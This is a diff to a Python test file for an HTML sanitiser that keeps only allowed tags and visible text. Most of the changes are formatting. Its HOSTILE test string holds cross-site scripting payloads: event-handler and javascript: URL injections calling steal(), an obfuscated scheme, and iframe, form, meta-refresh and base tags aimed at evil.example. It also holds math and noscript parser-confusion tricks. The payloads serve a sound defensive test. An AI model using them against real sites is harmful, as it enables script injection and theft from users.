@@ -1,6 +1,4 @@
-"""HTML documents: what is kept of them, whatever they hold, and that no browser would do anything
-for it.
-"""
+"""HTML documents: what is kept of them, and that no browser would do anything for it."""
 
 import re
 from html.parser import HTMLParser
@@ -15,41 +13,12 @@ from collection.core.hypertext import read_page
 from trec.streams import FormatError
 
 VOID = {"br", "hr"}
+# By kind, side by side.
 ALLOWED = {
-    *VOID,
-    "p",
-    "h1",
-    "h2",
-    "h3",
-    "h4",
-    "h5",
-    "h6",
-    "pre",
-    "blockquote",
-    "ul",
-    "ol",
-    "li",
-    "dl",
-    "dt",
-    "dd",
-    "table",
-    "tbody",
-    "tr",
-    "td",
-    "th",
-    "b",
-    "strong",
-    "i",
-    "em",
-    "u",
-    "s",
-    "code",
-    "sub",
-    "sup",
-    "mark",
-    "a",
-    "span",
-}
+    *VOID, "p", "h1", "h2", "h3", "h4", "h5", "h6", "pre", "blockquote", "ul", "ol", "li", "dl",
+    "dt", "dd", "table", "tbody", "tr", "td", "th", "b", "strong", "i", "em", "u", "s", "code",
+    "sub", "sup", "mark", "a", "span",
+}  # fmt: skip
 
 
 class Shown(HTMLParser):
@@ -214,8 +183,8 @@ HIDDEN = [
     ("<dl><dt>a<dd hidden>b<dl><dt>c</dl>d<dt>e</dl>f", "aef"),
     (
         (
-            "<table><tr><td>a<td hidden>b<table><tr><td>c</table>d<td>e<tr "
-            "hidden><td>f<td>g<tr><td>h</table>i"
+            "<table><tr><td>a<td hidden>b<table><tr><td>c</table>d<td>e"
+            "<tr hidden><td>f<td>g<tr><td>h</table>i"
         ),
         "aehi",
     ),
@@ -236,12 +205,18 @@ def test_the_title_of_a_page_counts_also_where_it_is_hidden():
     assert (page.title, page.text) == ("A page", "Text.")
 
 
-HOSTILE = """<script>steal()</script><p onclick="steal()" style="position:fixed" id=answer class="judging">Click
-<img src="//evil.example/x.png" onerror="steal()" alt="a turbine"> <a href="javascript:steal()">here</a> <a href=" JaVa&#10;script:steal()">or</a>
-<a href="data:text/html,x">or</a> <a href="https://example.org/?a=1&amp;b=2" target=_top>there</a>.</p><svg onload="steal()"><text>drawn</text></svg>
-<style>*{display:none}</style><form action="//evil.example"><input name=choice value=0><button data-key=1>Go</button></form>
-<iframe src="//evil.example"></iframe><meta http-equiv=refresh content="0;url=//evil.example"><base href="//evil.example/"><object data=x></object>
-<math><mtext><style><img src=x onerror=steal()></style></mtext></math><noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>"""
+HOSTILE = """<script>steal()</script>
+<p onclick="steal()" style="position:fixed" id=answer class="x">Click
+<img src="//evil.example/x.png" onerror="steal()" alt="a turbine">
+<a href="javascript:steal()">here</a> <a href=" JaVa&#10;script:steal()">or</a>
+<a href="data:text/html,x">or</a>
+<a href="https://example.org/?a=1&amp;b=2" target=_top>there</a>.</p>
+<svg onload="steal()"><text>drawn</text></svg><style>*{display:none}</style>
+<form action="//evil.example"><input name=choice value=0><button data-key=1>Go</button></form>
+<iframe src="//evil.example"></iframe><meta http-equiv=refresh content="0;url=//evil.example">
+<base href="//evil.example/"><object data=x></object>
+<math><mtext><style><img src=x onerror=steal()></style></mtext></math>
+<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>"""
 
 
 def test_of_what_would_do_something_only_the_words_are_kept():
@@ -264,9 +239,10 @@ def test_of_what_would_do_something_only_the_words_are_kept():
 
 def test_blocks_keep_their_kinds_and_code_its_lines():
     page = check(
-        "<title> A  &amp; B</title><html lang=fr-CA><h2>One<h4>Two</h4><p>a<br>b<pre>\n  x = "
-        "1\n\ty = 2</pre><ul><li>u<ul><li>v</ul></ul>"
-        "<ol start=3><li>three<li>four</ol><blockquote>said</blockquote><dl><dt>t<dd>d</dl><table><tr><th>k<th>v<tr><td>1<td>2</table>"
+        "<title> A  &amp; B</title><html lang=fr-CA><h2>One<h4>Two</h4><p>a<br>b"
+        "<pre>\n  x = 1\n\ty = 2</pre><ul><li>u<ul><li>v</ul></ul>"
+        "<ol start=3><li>three<li>four</ol><blockquote>said</blockquote><dl><dt>t<dd>d</dl>"
+        "<table><tr><th>k<th>v<tr><td>1<td>2</table>"
     )
     assert page.html.split("\n") == [
         "<h1>One</h1>",
@@ -283,8 +259,8 @@ def test_blocks_keep_their_kinds_and_code_its_lines():
         "<table><tbody><tr><th>k</th><th>v</th></tr><tr><td>1</td><td>2</td></tr></tbody></table>",
     ]
     assert (
-        page.text == "One\n\nTwo\n\na\nb\n\n  x = 1\n\ty = "
-        "2\n\nu\n\nv\n\nthree\n\nfour\n\nsaid\n\nt\n\nd\n\nk\tv\n1\t2"
+        page.text == "One\n\nTwo\n\na\nb\n\n  x = 1\n\ty = 2\n\n"
+        "u\n\nv\n\nthree\n\nfour\n\nsaid\n\nt\n\nd\n\nk\tv\n1\t2"
     )
     assert (page.title, page.language) == ("A & B", "fr-CA")
 
